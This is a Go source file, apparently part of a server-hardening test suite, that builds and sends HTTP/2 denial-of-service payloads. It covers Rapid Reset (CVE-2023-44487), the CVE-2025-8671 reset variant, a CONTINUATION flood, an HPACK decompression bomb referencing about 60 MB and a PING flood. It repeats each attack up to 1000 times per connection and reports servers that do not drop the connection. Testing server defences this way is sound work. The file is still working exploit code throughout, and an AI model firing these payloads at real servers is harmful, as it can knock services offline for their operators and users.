package main

import (
	"errors"
	"fmt"
	"net"
	"strings"
	"time"

	"traffic_management/perf/frame"
)

// attack is something that a client of HTTP/2 does over and over until the server closes its connection.
type attack string

// blows is how often it does: as often as any server that defends itself lets it.
const blows = 1000

// attacks has what a connection sends first, and then again and again; id is that of a new stream.
var attacks = map[attack]struct {
	first func(b, request []byte) []byte
	blow  func(b, request []byte, id uint32) []byte
}{
	"reset": {blow: func(b, request []byte, id uint32) []byte { // CVE-2023-44487
		return append(frame.Append(get(b, request, id), frame.Reset, 0, id, 4), 0, 0, 0, 8)
	}},
	"made-reset": {blow: func(b, request []byte, id uint32) []byte { // CVE-2025-8671
		return append(frame.Append(get(b, request, id), frame.WindowUpdate, 0, id, 4), 0, 0, 0, 0)
	}},
	"continuation": {
		first: func(b, request []byte) []byte {
			return append(frame.Append(b, frame.Headers, frame.EndStream, 1, len(request)), request...)
		},
		blow: func(b, request []byte, id uint32) []byte { return frame.Append(b, frame.Continuation, 0, 1, 0) },
	},
	"bomb": {
		first: func(b, request []byte) []byte {
			const large = "x" // a field of 3900 bytes, which enters the table
			field := "\x40\x01" + large + "\x7f\xbd\x1d" + strings.Repeat("x", 3900)
			return get(b, append(request[:len(request):len(request)], field...), 1)
		},
		blow: func(b, request []byte, id uint32) []byte { // and is referred to, for some 60 MB
			return get(b, append(request[:len(request):len(request)], strings.Repeat("\xbe", frame.MaxPayload-len(request))...), id)
		},
	},
	"ping": {blow: func(b, request []byte, id uint32) []byte {
		return append(frame.Append(b, frame.Ping, 0, 0, 8), "pingpong"...)
	}},
}

// get appends a whole request.
func get(b, request []byte, id uint32) []byte {
	return append(frame.Append(b, frame.Headers, frame.EndStream|frame.EndHeaders, id, len(request)), request...)
}

// bytes is all that one connection sends; nil when there is no attack.
func (a attack) bytes(authority string) []byte {
	if a == "" {
		return nil
	}
	// GET / of http, and :authority.
	request := append([]byte{0x82, 0x86, 0x84, 0x01, byte(len(authority))}, authority...)
	b := frame.AppendSettings([]byte(frame.Preface))
	if f := attacks[a].first; f != nil {
		b = f(b, request)
	}
	for i := range blows {
		b = attacks[a].blow(b, request, uint32(2*i+3))
		if len(b) > 1<<20 {
			break
		}
	}
	return b
}

// errSpared is a server that lets an attack through.
var errSpared = errors.New("the connection was not closed")

// assail is the life of one attacking connection.
func (c *churn) assail(buf []byte) error {
	conn, err := net.DialTimeout("tcp", c.server.String(), holdTimeout)
	if err != nil {
		return err
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(holdTimeout)); err != nil {
		return err
	}
	go conn.Write(c.attack) // ends with the connection
	for err == nil {
		_, err = conn.Read(buf)
	}
	if e := net.Error(nil); errors.As(err, &e) && e.Timeout() {
		return fmt.Errorf("%w: %w", errSpared, err)
	}
	return nil
}
